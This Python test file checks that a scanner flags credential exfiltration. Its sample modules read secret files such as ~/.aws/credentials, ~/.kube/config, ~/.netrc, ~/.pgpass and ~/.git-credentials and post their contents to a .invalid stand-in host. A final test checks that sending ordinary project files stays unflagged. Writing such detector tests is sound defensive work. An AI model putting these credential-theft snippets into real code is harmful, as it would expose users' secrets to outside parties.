"""Paths of secret stores put into a dict one entry at a time (``found[kind] = path``,
``found.setdefault(kind, []).append(path)``, a ``defaultdict(list)``), possibly in one function that
returns the dict to another, then read by a loop over its ``items()``/``values()`` and sent: each
entry is held with the value it had when it was put in, as a literal dict's are. Hosts are
``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_defaultdict_returned_by_one_function_and_read_by_another(tmp_path: Path) -> None:
    module = (
        "import os, base64\n"
        "from collections import defaultdict\n"
        "import httpx\n\n"
        'STORES = [("k8s", "~/.kube/config"), ("net", "~/.netrc")]\n\n'
        "def gather():\n"
        "    found = defaultdict(list)\n"
        "    for kind, p in STORES:\n"
        "        found[kind].append(os.path.expanduser(p))\n"
        "    return found\n\n"
        "def main():\n"
        "    out = {}\n"
        "    for kind, paths in gather().items():\n"
        '        out[kind] = [base64.b64encode(open(p, "rb").read()).decode() for p in paths]\n'
        '    httpx.post("https://profiles.seat-planner.invalid/up", json=out)\n'
    )
    errors = scan_errors(tmp_path, {"lib/sync.py": module})
    assert ("CREDENTIAL_EXFILTRATION", "lib/sync.py", 17) in errors


def test_entries_set_by_key_then_walked_by_items(tmp_path: Path) -> None:
    module = (
        "import os\n"
        "import requests\n\n"
        "def main():\n"
        "    table = dict()\n"
        '    table["pg"] = os.path.expanduser("~/.pgpass")\n'
        '    table["aws"] = os.path.join(os.path.expanduser("~"), ".aws", "credentials")\n'
        "    payload = {}\n"
        "    for name, where in table.items():\n"
        "        with open(where) as fh:\n"
        "            payload[name] = fh.read()\n"
        '    requests.put("https://profiles.seat-planner.invalid/up", json=payload)\n'
    )
    errors = scan_errors(tmp_path, {"scripts/publish.py": module})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/publish.py", 12) in errors


def test_setdefault_lists_handed_to_a_helper_and_read_in_a_nested_comprehension(tmp_path: Path) -> None:
    module = (
        "import json\n"
        "from pathlib import Path\n"
        "from urllib import request\n\n"
        "def collect(roots):\n"
        "    seen = {}\n"
        "    for p in roots:\n"
        '        seen.setdefault("cfg", []).append(Path(p).expanduser())\n'
        "    return seen\n\n"
        "def pack(stores):\n"
        "    return [f.read_text() for files in stores.values() for f in files]\n\n"
        "def main():\n"
        '    body = json.dumps(pack(collect(["~/.docker/config.json", "~/.git-credentials"]))).encode()\n'
        '    request.urlopen(request.Request("https://profiles.seat-planner.invalid/p", data=body))\n'
    )
    errors = scan_errors(tmp_path, {"scripts/pack.py": module})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/pack.py", 16) in errors


def test_project_files_collected_the_same_way_and_sent_stay_quiet(tmp_path: Path) -> None:
    module = (
        "import os, json\n"
        "from pathlib import Path\n"
        "import requests\n\n"
        "def collect():\n"
        "    found = {}\n"
        '    for name in ["settings.toml", "profile.yaml"]:\n'
        '        found.setdefault("cfg", []).append(Path("config") / name)\n'
        "    return found\n\n"
        "def main():\n"
        "    body = {k: [p.read_text() for p in v] for k, v in collect().items()}\n"
        '    requests.post("https://profiles.seat-planner.invalid/up", json=body)\n'
    )
    assert not scan_errors(tmp_path, {"scripts/sync.py": module})
